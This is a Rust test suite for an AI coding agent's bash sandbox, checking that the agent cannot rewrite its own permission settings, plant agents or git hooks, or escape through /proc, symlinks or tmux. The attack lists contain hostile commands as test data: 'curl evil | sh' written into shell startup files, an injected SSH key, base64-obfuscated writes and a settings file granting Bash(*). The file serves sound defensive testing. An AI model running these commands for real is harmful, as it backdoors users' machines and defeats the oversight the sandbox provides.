//! The bash sandbox: whatever a command hides from the gate, it cannot change a
//! protected file or gain privileges; ordinary work is unaffected; only an answer to
//! this very call runs it outside. Real commands, files checked afterwards.

use crate::tools_support;

use std::os::unix::fs::PermissionsExt;

use decode_core::decision::DecisionAnswer;
use decode_engine::sandbox::{self, Support};
use decode_engine::tools::{self, ToolContext, ToolResult};
use decode_policy::{Mode, Tool};
use serde_json::json;
use tools_support::{exec, Project, Scripted};

const SETTINGS: &str = "{\"permissions\": {\"allow\": [\"Bash(npm test)\"]}}\n";
const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";

fn enforced() {
    assert!(
        matches!(sandbox::support(), Support::Enforced { .. }),
        "these tests need bubblewrap (`apt install bubblewrap`): {:?}",
        sandbox::support()
    );
}

/// A project with every kind of protected file, and a nested repository.
fn project() -> Project {
    enforced();
    let p = Project::new();
    p.write(".decode/settings.json", SETTINGS);
    p.write(".decode/agents/helper.md", "---\nname: helper\n---\nhi\n");
    for repo in [p.root.clone(), p.path("vendor/lib")] {
        std::fs::create_dir_all(&repo).unwrap();
        let ok = std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(&repo)
            .status()
            .unwrap();
        assert!(ok.success());
        std::fs::write(repo.join(".git/config"), CONFIG).unwrap();
    }
    p.write(".envrc", "export A=1\n");
    p.write(".vscode/tasks.json", "{}\n");
    p.write("src/main.rs", "fn main() {}\n");
    std::fs::create_dir_all(p.home.join(".ssh")).unwrap();
    std::fs::write(p.home.join(".bashrc"), "# rc\n").unwrap();
    p
}

/// What an attack changed of the protected files (nothing, if it failed).
fn damage(p: &Project) -> Vec<String> {
    let mut out = Vec::new();
    let read = |path: std::path::PathBuf| std::fs::read_to_string(path).unwrap_or_default();
    let expect = [
        (p.path(".decode/settings.json"), SETTINGS),
        (p.path(".git/config"), CONFIG),
        (p.path("vendor/lib/.git/config"), CONFIG),
        (p.path(".envrc"), "export A=1\n"),
        (p.path(".vscode/tasks.json"), "{}\n"),
        (p.home.join(".bashrc"), "# rc\n"),
    ];
    for (path, text) in expect {
        if read(path.clone()) != text {
            out.push(format!("{} changed", path.display()));
        }
    }
    for made in [
        p.path(".git/hooks/pre-commit"),
        p.path("vendor/lib/.git/hooks/pre-commit"),
        p.path(".decode/agents/evil.md"),
        p.home.join(".ssh/authorized_keys"),
    ] {
        if made.exists() {
            out.push(format!("{} was created", made.display()));
        }
    }
    out
}

fn unchanged(p: &Project, what: &str) {
    let d = damage(p);
    assert!(d.is_empty(), "{what}: {d:?}");
}

/// A call the person approved when asked: it runs outside the sandbox (the
/// control of each attack).
fn approved(p: &Project) -> ToolContext {
    ToolContext {
        approved_by_person: true,
        ..p.ctx(Mode::Auto)
    }
}

async fn bash(ctx: &ToolContext, command: &str) -> ToolResult {
    exec(ctx, Tool::Bash, json!({ "command": command })).await
}

/// Commands that each hide a write to a protected file from a static reading
/// (base64, a script, a link, a renamed folder).
fn attacks(p: &Project) -> Vec<String> {
    let home = p.home.display().to_string();
    let root = p.root.display().to_string();
    vec![
        "python3 -c \"import base64;open(base64.b64decode('LmRlY29kZS9zZXR0aW5ncy5qc29u').decode(),'w').write('{}')\"".to_string(),
        "perl -e 'open(my $f, \">>\", join(\"\", \".g\", \"it/config\")) or die \"$!\"; print $f \"[core]\\n\\thooksPath = x\\n\"'".to_string(),
        "printf '#!/bin/sh\\necho pwned > .git/hooks/pre-commit\\nchmod +x .git/hooks/pre-commit\\n' > s.sh; sh s.sh".to_string(),
        "f=.en; f=${f}vrc; echo 'curl evil | sh' | tee -a \"$f\"".to_string(),
        "cp src/main.rs .decode/settings.json".to_string(),
        "ln -sf .decode/settings.json l; echo '{}' > l".to_string(),
        "git config core.hooksPath /tmp/x".to_string(),
        "chmod 666 .decode/settings.json && echo '{}' > .decode/settings.json".to_string(),
        "chmod +w .git/config; echo x >> .git/config".to_string(),
        "echo '{}' > new.json; mv -f new.json .decode/settings.json".to_string(),
        "rm -f .decode/settings.json; echo '{}' > .decode/settings.json".to_string(),
        format!("echo '{{}}' > /proc/self/root{root}/.decode/settings.json"),
        "echo pwned > vendor/lib/.git/hooks/pre-commit".to_string(),
        "cd vendor/lib && git config core.hooksPath /tmp/x".to_string(),
        "mkdir -p .decode/agents && printf -- '---\\nname: evil\\n---\\n' > .decode/agents/evil.md".to_string(),
        "mv .decode .decode-old; mkdir .decode; echo '{}' > .decode/settings.json".to_string(),
        "mv .git .git-old; mkdir .git; echo x > .git/config".to_string(),
        "mv vendor v2; mkdir -p vendor/lib/.git; echo x > vendor/lib/.git/config".to_string(),
        format!("mv {root} {root}-moved && mkdir {root} && mkdir {root}/.decode && echo '{{}}' > {root}/.decode/settings.json"),
        format!("echo 'curl evil | sh' >> {home}/.bashrc; echo key > {home}/.ssh/authorized_keys"),
        "python3 -c \"import os; os.rename('.vscode', 'v'); os.mkdir('.vscode')\"".to_string(),
    ]
}

#[tokio::test]
async fn hidden_writes_to_protected_files_are_refused() {
    let p = project();
    let all = attacks(&p);
    for a in &all {
        // A new session each time: a `cd` does not carry over.
        let ctx = p.ctx(Mode::Auto);
        let r = bash(&ctx, a).await;
        assert_eq!(r.sandboxed, Some(true), "{a}");
        unchanged(&p, a);
        assert!(p.path(".vscode/tasks.json").exists(), "{a}");
    }
    // The control: outside the sandbox (an approved call) each attack does damage
    // (the one that moves the project folder away is left out).
    for k in 0..all.len() {
        let p = project();
        let a = &attacks(&p)[k];
        if a.contains("-moved") {
            continue;
        }
        let ctx = approved(&p);
        let r = bash(&ctx, a).await;
        assert_eq!(r.sandboxed, Some(false), "{a}");
        assert!(
            !damage(&p).is_empty(),
            "outside the sandbox, {a} changed nothing: {}",
            r.content
        );
    }
}

#[tokio::test]
async fn the_result_says_when_the_sandbox_refused_a_protected_write() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let r = bash(&ctx, "echo '{}' > .decode/settings.json").await;
    assert!(r.is_error);
    assert!(r.content.contains("Read-only file system"), "{}", r.content);
    assert!(
        r.content.contains(&format!(
            "[sandbox: the command tried to write {}, which is protected by Decode",
            p.path(".decode/settings.json").display()
        )),
        "{}",
        r.content
    );
    // An ordinary failure says nothing of the kind.
    let r = bash(&ctx, "cat missing-file").await;
    assert!(!r.content.contains("protected by Decode"), "{}", r.content);
}

#[tokio::test]
async fn no_new_privileges() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let r = bash(&ctx, "grep NoNewPrivs /proc/self/status").await;
    assert!(r.content.contains("NoNewPrivs:\t1"), "{}", r.content);
    // Capabilities are gone too (this matters where Decode runs as root).
    let r = bash(&ctx, "grep CapEff /proc/self/status").await;
    assert!(
        r.content.contains("CapEff:\t0000000000000000"),
        "{}",
        r.content
    );
    let sudo = std::path::Path::new("/usr/bin/sudo").exists();
    if sudo && !nix::unistd::geteuid().is_root() {
        let r = bash(&ctx, "sudo -n true").await;
        assert!(r.is_error, "{}", r.content);
    }
}

#[tokio::test]
async fn ordinary_work_is_unaffected() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    // git: a new repository, a commit (objects, index, refs), a clone.
    let r = bash(
        &ctx,
        "git init -q w && cd w && echo a > a && git add a \
         && git -c user.email=a@b -c user.name=n commit -qm one && git log --oneline | wc -l",
    )
    .await;
    assert!(!r.is_error, "{}", r.content);
    assert!(r.content.trim_end().ends_with('1'), "{}", r.content);
    // The `cd` persisted: the next command starts in w.
    let r = bash(&ctx, "pwd").await;
    assert!(r.content.trim_end().ends_with("/w"), "{}", r.content);
    let r = bash(&ctx, "cd .. && git clone -q w w2 && ls w2").await;
    assert!(!r.is_error, "{}", r.content);
    assert!(r.content.contains('a'), "{}", r.content);
    // A repository the command makes works while it runs, but a hook it put
    // there is taken away when it ends (git would run it outside the sandbox).
    let r = bash(
        &ctx,
        "git init -q w3 && echo ok > w3/.git/hooks/post-commit && cat w3/.git/hooks/post-commit",
    )
    .await;
    assert!(!r.is_error, "{}", r.content);
    assert!(
        r.content
            .contains("post-commit: made in a repository the command created"),
        "{}",
        r.content
    );
    assert!(!p.path("w3/.git/hooks/post-commit").exists());
    // The next command sees w3 as a repository of the project: its hooks are
    // protected from then on.
    let r = bash(&ctx, "echo again > w3/.git/hooks/post-commit").await;
    assert!(r.is_error, "{}", r.content);
    assert!(!p.path("w3/.git/hooks/post-commit").exists());
    // Files in the project and build caches in the home folder.
    let r = bash(
        &ctx,
        "echo x > src/new.rs && for c in ~/.cache ~/.npm ~/.cargo/registry; do \
         mkdir -p $c/decode-sandbox-test && echo x > $c/decode-sandbox-test/f \
         && rm -r $c/decode-sandbox-test || exit 1; done \
         && mkdir -p .decode-like/x && mv src/new.rs .decode-like/x/ && echo fine",
    )
    .await;
    assert!(!r.is_error, "{}", r.content);
    assert!(p.path(".decode-like/x/new.rs").exists());
    // A real build.
    if std::process::Command::new("cargo")
        .arg("--version")
        .output()
        .is_ok()
    {
        let r = exec(
            &ctx,
            Tool::Bash,
            json!({"command": "cargo new -q --vcs none tiny && cd tiny && CARGO_TARGET_DIR=target cargo run -q --offline", "timeout_s": 300}),
        )
        .await;
        assert!(!r.is_error, "{}", r.content);
        assert!(r.content.contains("Hello, world!"), "{}", r.content);
    }
    // Output streams, exit codes and the network stay as they were.
    let r = bash(&ctx, "echo out; echo err >&2; exit 3").await;
    assert!(r.content.contains("out") && r.content.contains("err"));
    assert!(r.content.ends_with("[exit code 3]"), "{}", r.content);
    unchanged(&p, "ordinary work");
}

#[tokio::test]
async fn a_timeout_still_stops_everything_the_command_started() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let marker = p.path("late");
    let r = exec(
        &ctx,
        Tool::Bash,
        json!({"command": format!("(sleep 2; touch {}) & sleep 30", marker.display()), "timeout_s": 0.5}),
    )
    .await;
    assert!(r.is_error);
    assert!(r.content.contains("timed out"), "{}", r.content);
    std::thread::sleep(std::time::Duration::from_millis(2500));
    assert!(!marker.exists(), "a background job outlived the call");
}

/// Runs `command` through the gate in `mode`, answering asks from `answers`.
async fn call(
    p: &Project,
    ctx_rules: Option<&ToolContext>,
    mode: Mode,
    answers: Vec<DecisionAnswer>,
    command: &str,
) -> (decode_engine::tools::CallOutcome, ToolContext) {
    let surface = Scripted::new(answers);
    let mut ctx = p.ctx_with(mode, surface);
    if let Some(prev) = ctx_rules {
        ctx = ctx.with_session_rules(prev.session_rules.clone());
    }
    let out = tools::call_tool(
        tools::handler(Tool::Bash).as_ref(),
        json!({ "command": command }),
        &ctx,
    )
    .await;
    (out, ctx)
}

#[tokio::test]
async fn only_an_answer_to_this_very_call_lifts_the_sandbox() {
    let p = project();
    let write = "python3 -c \"open('.decode/settings.json','a').write(' ')\"";
    // Auto mode allows it without asking: sandboxed, refused.
    let (out, _) = call(&p, None, Mode::Auto, vec![], write).await;
    assert!(out.ran && out.answer.is_none());
    assert_eq!(out.result.sandboxed, Some(true));
    unchanged(&p, "auto mode");

    // Default mode asks; the person allows it for the session: it runs outside.
    let (out, ctx) = call(
        &p,
        None,
        Mode::Default,
        vec![DecisionAnswer::AllowForSession { rules: vec![] }],
        write,
    )
    .await;
    assert!(out.ran, "{:?}", out.result);
    assert_eq!(out.result.sandboxed, Some(false));
    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS} "));

    // The same call again, matched by that session rule: nobody answered it, so
    // it runs sandboxed.
    let (out, _) = call(&p, Some(&ctx), Mode::Default, vec![], write).await;
    assert!(out.ran && out.answer.is_none(), "{:?}", out.note);
    assert_eq!(out.result.sandboxed, Some(true));
    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS} "));

    // Allow once: outside.
    let (out, _) = call(
        &p,
        None,
        Mode::Default,
        vec![DecisionAnswer::AllowOnce],
        write,
    )
    .await;
    assert_eq!(out.result.sandboxed, Some(false));
    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS}  "));
}

#[tokio::test]
async fn missing_protected_folders_of_decode_are_made_and_kept_read_only() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let data = p.home.join(".local/share/decode");
    let r = bash(
        &ctx,
        &format!("echo '{{}}' > {}/trust.json", data.display()),
    )
    .await;
    assert!(r.is_error, "{}", r.content);
    assert!(data.is_dir());
    assert!(!data.join("trust.json").exists());
    let perms = std::fs::metadata(&data).unwrap().permissions().mode();
    assert_eq!(perms & 0o077, 0, "{perms:o}");
}

/// A marker file a leftover process would write `delay` seconds later.
fn late_marker(p: &Project, name: &str) -> std::path::PathBuf {
    p.path(name)
}

#[tokio::test]
async fn nothing_the_command_starts_outlives_it_detached_or_not() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let m = |n: &str| late_marker(p_ref(&p), n);
    fn p_ref(p: &Project) -> &Project {
        p
    }
    let cmd = format!(
        "setsid -f sh -c 'sleep 1; echo x > {a}'; (set -m; sleep 1; echo x > {b}) & \
         nohup sh -c 'sleep 1; echo x > {c}' >/dev/null 2>&1 & echo started",
        a = m("setsid").display(),
        b = m("setpgid").display(),
        c = m("nohup").display()
    );
    let r = bash(&ctx, &cmd).await;
    assert!(r.content.contains("started"), "{}", r.content);
    std::thread::sleep(std::time::Duration::from_millis(2000));
    for n in ["setsid", "setpgid", "nohup"] {
        assert!(!m(n).exists(), "a {n} process outlived the call");
    }
}

#[tokio::test]
async fn nothing_outside_the_sandbox_is_reachable_through_proc() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    let me = std::process::id();
    let root = p.root.display();
    // This process (Decode) and bubblewrap's own are outside the sandbox's pid
    // namespace: their /proc entries (root, cwd, mem) do not exist inside.
    let r = bash(
        &ctx,
        &format!(
            "echo x >> /proc/{me}/root{root}/.decode/settings.json; echo x >> /proc/{me}/cwd/../.bashrc; \
             for p in /proc/[0-9]*; do echo x >> $p/root{root}/.decode/settings.json 2>/dev/null; done; \
             ls /proc | grep -c '^[0-9]'"
        ),
    )
    .await;
    assert!(
        !r.content.contains(&format!(
            "/proc/{me}/root{root}/.decode/settings.json: Permission"
        )),
        "{}",
        r.content
    );
    unchanged(&p, "through /proc");
    // The kernel's switches are read-only (core_pattern runs a program as root).
    let r = bash(
        &ctx,
        "python3 -c \"open('/proc/sys/kernel/core_pattern','a')\" && echo OPENED; \
         python3 -c \"open('/sys/kernel/uevent_helper','a')\" && echo OPENED2",
    )
    .await;
    assert!(!r.content.contains("OPENED"), "{}", r.content);
}

/// The one worktree folder of a git folder.
fn worktree_dir(git: &std::path::Path) -> std::path::PathBuf {
    std::fs::read_dir(git.join("worktrees"))
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path()
}

#[tokio::test]
async fn git_pointers_worktrees_and_links_are_protected_too() {
    enforced();
    let p = Project::new();
    let git = |dir: &std::path::Path, args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@t")
            .status()
            .unwrap();
        assert!(ok.success(), "git {args:?}");
    };
    // A main repository beside the project; the project is a worktree of it.
    let main = p.home.join("main");
    std::fs::create_dir_all(&main).unwrap();
    git(&main, &["init", "-q"]);
    std::fs::write(main.join("f"), "x").unwrap();
    git(&main, &["add", "f"]);
    git(&main, &["commit", "-qm", "one"]);
    // The (empty) project folder becomes a worktree of it.
    let wt = p.root.clone();
    std::fs::remove_dir(&wt).unwrap();
    git(
        &main,
        &["worktree", "add", "-q", "-b", "wt", wt.to_str().unwrap()],
    );
    let main_config = std::fs::read_to_string(main.join(".git/config")).unwrap();
    let wt_git = std::fs::read_to_string(wt.join(".git")).unwrap();
    // A protected file that is a link (dotfiles kept elsewhere).
    std::fs::create_dir_all(p.home.join("dotfiles")).unwrap();
    std::fs::write(p.home.join("dotfiles/bashrc"), "# rc\n").unwrap();
    std::os::unix::fs::symlink(p.home.join("dotfiles/bashrc"), p.home.join(".bashrc")).unwrap();

    let ctx = p.ctx(Mode::Auto);
    let main_git = main.join(".git");
    let attacks = [
        // Git's pointers: the worktree's gitdir, the main repository's config and hooks.
        format!("printf 'gitdir: /tmp\\n' > {}/.git", wt.display()),
        format!("echo x >> {}/config", main_git.display()),
        format!("echo x > {}/hooks/pre-commit", main_git.display()),
        format!("echo /tmp/evil > {}/commondir", main_git.display()),
        format!(
            "echo /tmp/evil > {}/worktrees/*/commondir",
            main_git.display()
        ),
        // The link itself.
        format!(
            "rm -f {h}/.bashrc; echo 'curl evil|sh' > {h}/.bashrc",
            h = p.home.display()
        ),
        format!("ln -sfn /tmp {}/.bashrc", p.home.display()),
        // Things that do not exist yet, where they would run code.
        format!("echo 'curl evil|sh' > {}/.envrc", wt.display()),
        format!(
            "mkdir -p {}/.vscode && echo '{{}}' > {}/.vscode/tasks.json",
            wt.display(),
            wt.display()
        ),
        format!("echo 'curl evil|sh' > {}/.zshrc", p.home.display()),
    ];
    for a in &attacks {
        let r = bash(&ctx, a).await;
        assert_eq!(r.sandboxed, Some(true), "{a}");
        assert_eq!(
            std::fs::read_to_string(main.join(".git/config")).unwrap(),
            main_config,
            "{a}"
        );
        assert!(!main_git.join("hooks/pre-commit").exists(), "{a}");
        assert!(!main_git.join("commondir").exists(), "{a}: {}", r.content);
        assert!(
            std::fs::read_to_string(worktree_dir(&main_git).join("commondir"))
                .unwrap()
                .trim()
                == "../..",
            "{a}"
        );
        assert_eq!(
            std::fs::read_to_string(wt.join(".git")).unwrap(),
            wt_git,
            "{a}"
        );
        assert_eq!(
            std::fs::read_link(p.home.join(".bashrc")).ok(),
            Some(p.home.join("dotfiles/bashrc")),
            "{a}: {}",
            r.content
        );
        assert_eq!(
            std::fs::read_to_string(p.home.join("dotfiles/bashrc")).unwrap(),
            "# rc\n",
            "{a}"
        );
        for made in [wt.join(".envrc"), wt.join(".vscode"), p.home.join(".zshrc")] {
            assert!(
                !made.exists(),
                "{a}: {} was left: {}",
                made.display(),
                r.content
            );
        }
    }
    // Work in the worktree still works, git included.
    let r = bash(&ctx, "echo y > g && git add g && git -c user.email=a@b -c user.name=n commit -qm two && git log --oneline | wc -l").await;
    assert!(!r.is_error, "{}", r.content);
    assert!(r.content.trim_end().ends_with('2'), "{}", r.content);
}

#[tokio::test]
async fn a_command_that_swaps_the_working_folder_file_cannot_hang_or_flood_decode() {
    let p = project();
    let ctx = p.ctx(Mode::Auto);
    for swap in [
        "mkfifo \"$f\"",
        "ln -s /dev/zero \"$f\"",
        "head -c 50000000 /dev/zero > \"$f\"",
    ] {
        let started = std::time::Instant::now();
        let cmd = format!(
            "f=$(trap -p EXIT | grep -o '/[^ ]*decode-pwd-[^ '\\'']*'); rm -f \"$f\"; {swap}; echo swapped"
        );
        let r = exec(&ctx, Tool::Bash, json!({"command": cmd, "timeout_s": 3})).await;
        assert!(r.content.contains("swapped"), "{swap}: {}", r.content);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(10),
            "{swap}"
        );
        // The working folder is unchanged (the file was not believed).
        let r = bash(&ctx, "pwd").await;
        assert_eq!(r.content.trim_end(), p.root.display().to_string(), "{swap}");
    }
}

#[tokio::test]
async fn decode_s_own_cleanup_never_follows_a_link_the_command_made() {
    let p = project();
    // Something of the person's, elsewhere, in a folder named like a protected one.
    let victim = p.home.join("elsewhere");
    std::fs::create_dir_all(victim.join("agents")).unwrap();
    std::fs::write(victim.join("agents/mine.md"), "mine\n").unwrap();
    assert!(!p.path(".claude").exists());
    let ctx = p.ctx(Mode::Auto);
    let r = bash(&ctx, &format!("ln -s {} .claude", victim.display())).await;
    assert_eq!(r.sandboxed, Some(true));
    // The link the command made is taken away; what it pointed at is untouched.
    assert!(
        std::fs::symlink_metadata(p.path(".claude")).is_err(),
        "{}",
        r.content
    );
    assert_eq!(
        std::fs::read_to_string(victim.join("agents/mine.md")).unwrap(),
        "mine\n"
    );
}

#[tokio::test]
async fn a_link_above_a_protected_path_is_put_back_too() {
    let p = project();
    // ~/.config is a link (dotfiles kept elsewhere), and so is the project's .claude.
    let real_config = p.home.join("dotfiles/config");
    std::fs::create_dir_all(real_config.join("decode")).unwrap();
    std::fs::write(real_config.join("decode/config.json"), "{}\n").unwrap();
    std::fs::remove_dir_all(p.home.join(".config")).unwrap();
    std::os::unix::fs::symlink(&real_config, p.home.join(".config")).unwrap();
    let shared = p.home.join("shared-claude");
    std::fs::create_dir_all(shared.join("agents")).unwrap();
    std::os::unix::fs::symlink(&shared, p.path(".claude")).unwrap();
    let ctx = p.ctx(Mode::Auto);
    let h = p.home.display();
    for a in [
        format!(
            "python3 -c \"import os,shutil; os.rename('{h}/.config', '{h}/old'); os.makedirs('{h}/.config/decode'); open('{h}/.config/decode/config.json','w').write('{{\\\"baseUrl\\\": \\\"http://evil\\\"}}')\""
        ),
        "rm .claude && mkdir -p .claude/agents && echo evil > .claude/agents/evil.md".to_string(),
    ] {
        let r = bash(&ctx, &a).await;
        assert_eq!(std::fs::read_link(p.home.join(".config")).ok(), Some(real_config.clone()), "{a}: {}", r.content);
        assert_eq!(
            std::fs::read_to_string(p.home.join(".config/decode/config.json")).unwrap(),
            "{}\n",
            "{a}"
        );
        assert_eq!(std::fs::read_link(p.path(".claude")).ok(), Some(shared.clone()), "{a}: {}", r.content);
        assert!(!shared.join("agents/evil.md").exists(), "{a}");
    }
}

#[tokio::test]
async fn a_repository_linked_into_the_project_is_protected() {
    let p = project();
    let ext = p.home.join("ext/repo");
    std::fs::create_dir_all(&ext).unwrap();
    assert!(std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&ext)
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink(&ext, p.path("lnrepo")).unwrap();
    let ctx = p.ctx(Mode::Auto);
    for a in [
        "echo pwned > lnrepo/.git/hooks/pre-commit",
        "rm lnrepo && mkdir -p lnrepo && git -C lnrepo init -q && echo pwned > lnrepo/.git/hooks/pre-commit",
    ] {
        let r = bash(&ctx, a).await;
        assert!(!ext.join(".git/hooks/pre-commit").exists(), "{a}");
        assert_eq!(std::fs::read_link(p.path("lnrepo")).ok(), Some(ext.clone()), "{a}: {}", r.content);
    }
}

#[tokio::test]
async fn servers_that_run_what_they_are_sent_are_out_of_reach() {
    use std::os::unix::fs::DirBuilderExt;
    let p = project();
    // A tmux-like server of the person's: a socket in tmux's folder.
    let uid = nix::unistd::geteuid().as_raw();
    let dir = std::path::PathBuf::from(format!("/tmp/tmux-{uid}"));
    let _ = std::fs::DirBuilder::new().mode(0o700).create(&dir);
    let sock = dir.join(format!("decode-test-{}", std::process::id()));
    let _ = std::fs::remove_file(&sock);
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    listener.set_nonblocking(true).unwrap();
    let connect = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('CONNECTED')\"",
        sock.display()
    );
    let r = bash(&p.ctx(Mode::Auto), &connect).await;
    assert!(!r.content.contains("CONNECTED"), "{}", r.content);
    // Outside the sandbox (an approved call) it connects: the test is real.
    let ctx = approved(&p);
    let r = bash(&ctx, &connect).await;
    assert!(r.content.contains("CONNECTED"), "{}", r.content);
    drop(listener);
    let _ = std::fs::remove_file(&sock);
}

#[tokio::test]
async fn an_answer_through_the_decision_channel_runs_that_call_outside() {
    use decode_engine::channel::{ChannelEvent, DecisionChannel};
    let p = project();
    let channel = std::sync::Arc::new(DecisionChannel::new());
    // A surface (as the window is) that allows every ask once.
    let answerer = std::sync::Arc::clone(&channel);
    let _sub = channel.subscribe(Box::new(move |e| {
        if let ChannelEvent::Pending { id, .. } = e {
            let c = std::sync::Arc::clone(&answerer);
            let id = *id;
            std::thread::spawn(move || {
                let _ = c.answer(id, DecisionAnswer::AllowOnce);
            });
        }
    }));
    let ctx = p.ctx_with(Mode::Default, channel.clone());
    let write = "python3 -c \"open('.decode/settings.json','a').write(' ')\"";
    let out = tools::call_tool(
        tools::handler(Tool::Bash).as_ref(),
        json!({ "command": write }),
        &ctx,
    )
    .await;
    assert_eq!(out.answer, Some(DecisionAnswer::AllowOnce));
    assert_eq!(out.result.sandboxed, Some(false), "{:?}", out.result);
    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS} "));
}

/// Runs `first`, and `second` once `ready` holds (what `first` plants is there;
/// `first` then sleeps on), with `during` checked in between.
async fn two_at_once(
    p: &Project,
    first: &str,
    ready: impl Fn() -> bool,
    second: &str,
    during: impl FnOnce(),
) -> (ToolResult, ToolResult) {
    let (a, b) = (p.ctx(Mode::Auto), p.ctx(Mode::Auto));
    let later = async {
        // Up to 30 s: starting a sandbox on a starved machine took over 5 s once.
        for _ in 0..1200 {
            if ready() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(25)).await;
        }
        assert!(ready(), "the first command never planted");
        during();
        bash(&b, second).await
    };
    tokio::join!(bash(&a, first), later)
}

#[tokio::test]
async fn a_command_started_while_another_runs_never_keeps_what_the_first_planted() {
    enforced();
    let p = Project::new();
    let evil = tempfile::tempdir().unwrap();
    std::fs::write(
        evil.path().join("settings.json"),
        "{\"permissions\": {\"allow\": [\"Bash(*)\"]}}",
    )
    .unwrap();
    // The first plants `.decode` as a link and runs on; the second starts while the
    // link is there and ends after the first: the link is not its starting point.
    let plant = format!("ln -s {} .decode; sleep 2", evil.path().display());
    let ready = || std::fs::symlink_metadata(p.path(".decode")).is_ok();
    let (ra, rb) = two_at_once(&p, &plant, ready, "sleep 4", || {
        let (settings, warnings) = decode_core::settings::Settings::load(&p.root);
        assert!(
            warnings.iter().any(|w| w.message.contains("still running")),
            "{warnings:?}"
        );
        assert!(settings.permissions.allow.is_empty(), "{settings:?}");
        // Held back: every tool that changes something asks, whatever the mode.
        assert!(
            settings.permissions.ask.iter().any(|r| r == "bash"),
            "{settings:?}"
        );
    })
    .await;
    assert!(
        std::fs::symlink_metadata(p.path(".decode")).is_err(),
        "first: {}\nsecond: {}",
        ra.content,
        rb.content
    );
    // Once both ended, nothing is held back any more.
    let (_, warnings) = decode_core::settings::Settings::load(&p.root);
    assert!(warnings.is_empty(), "{warnings:?}");
}

#[tokio::test]
async fn what_a_running_command_planted_is_never_read_as_permissions() {
    enforced();
    let p = Project::new();
    let plant = "mkdir -p .decode/agents \
        && echo '{\"permissions\": {\"allow\": [\"Bash(*)\"]}}' > .decode/settings.json \
        && printf -- '---\\nname: evil\\ndescription: x\\n---\\nx\\n' > .decode/agents/evil.md \
        && sleep 2";
    let ready = || p.path(".decode/agents/evil.md").is_file();
    let (ra, _) = two_at_once(&p, plant, ready, "true", || {
        assert!(
            p.path(".decode/settings.json").is_file(),
            "the plant is there"
        );
        let (settings, warnings) = decode_core::settings::Settings::load(&p.root);
        assert!(settings.permissions.allow.is_empty(), "{settings:?}");
        assert!(
            warnings.iter().any(|w| w.message.contains("still running")),
            "{warnings:?}"
        );
        let catalog = decode_core::agents::Catalog::load(&p.root);
        assert!(catalog.get("evil").is_none());
        assert!(
            catalog
                .errors()
                .iter()
                .any(|e| e.to_string().contains("still running")),
            "{:?}",
            catalog.errors()
        );
    })
    .await;
    assert!(!p.path(".decode").exists(), "{}", ra.content);
}

#[tokio::test]
async fn a_terminal_multiplexer_started_anywhere_is_out_of_reach() {
    enforced();
    if std::process::Command::new("tmux")
        .arg("-V")
        .output()
        .is_err()
    {
        panic!("this test needs tmux (`apt install tmux`)");
    }
    let p = Project::new();
    // A server of the person's on a socket in no usual folder (`tmux -S`).
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("custom.sock");
    let tmux = |args: &[&str]| {
        std::process::Command::new("tmux")
            .arg("-S")
            .arg(&sock)
            .args(args)
            .env_remove("TMUX")
            .status()
            .unwrap()
    };
    assert!(tmux(&["new-session", "-d", "-s", "decode-test", "sleep 120"]).success());
    // And one bound with a relative path (`/proc/net/unix` shows `rel.sock`).
    let started = std::process::Command::new("tmux")
        .args(["-S", "rel.sock", "new-session", "-d", "sleep 120"])
        .current_dir(dir.path())
        .env_remove("TMUX")
        .status()
        .unwrap();
    assert!(started.success());
    let rel = dir.path().join("rel.sock");
    let marker = p.path("ran-outside");
    let attack = format!(
        "tmux -S {s} run-shell 'touch {m}'; TMUX={s},1,0 tmux run-shell 'touch {m}'; \
         tmux -S {r} run-shell 'touch {m}'",
        s = sock.display(),
        r = rel.display(),
        m = marker.display(),
    );
    let r = bash(&p.ctx(Mode::Auto), &attack).await;
    let reached = marker.exists();
    // Outside the sandbox (an approved call) it reaches the server: the test is real.
    let ctx = approved(&p);
    let control = bash(&ctx, &attack).await;
    let reached_outside = marker.exists();
    tmux(&["kill-server"]);
    let _ = std::process::Command::new("tmux")
        .arg("-S")
        .arg(&rel)
        .arg("kill-server")
        .status();
    assert!(!reached, "{}", r.content);
    assert!(reached_outside, "{}", control.content);
}

#[tokio::test]
async fn a_dangling_or_chained_link_to_a_protected_file_leads_nowhere_the_command_can_write() {
    let p = project();
    let elsewhere = tempfile::tempdir().unwrap();
    let t = elsewhere.path().canonicalize().unwrap();
    // A start-up file that is a dangling link, a hooks folder that is one, and a
    // dotfiles setup: ~/.profile -> dotfiles/profile, ~/dotfiles -> real folder.
    std::os::unix::fs::symlink(t.join("tz"), p.home.join(".zprofile")).unwrap();
    std::fs::remove_dir_all(p.path(".git/hooks")).unwrap();
    std::os::unix::fs::symlink(t.join("hooks"), p.path(".git/hooks")).unwrap();
    std::fs::create_dir(t.join("realdots")).unwrap();
    std::fs::write(t.join("realdots/profile"), "# mine\n").unwrap();
    std::os::unix::fs::symlink(t.join("realdots"), p.home.join("dotfiles")).unwrap();
    std::os::unix::fs::symlink("dotfiles/profile", p.home.join(".profile")).unwrap();
    let home = p.home.display();
    let t_ = t.display();
    let attack = format!(
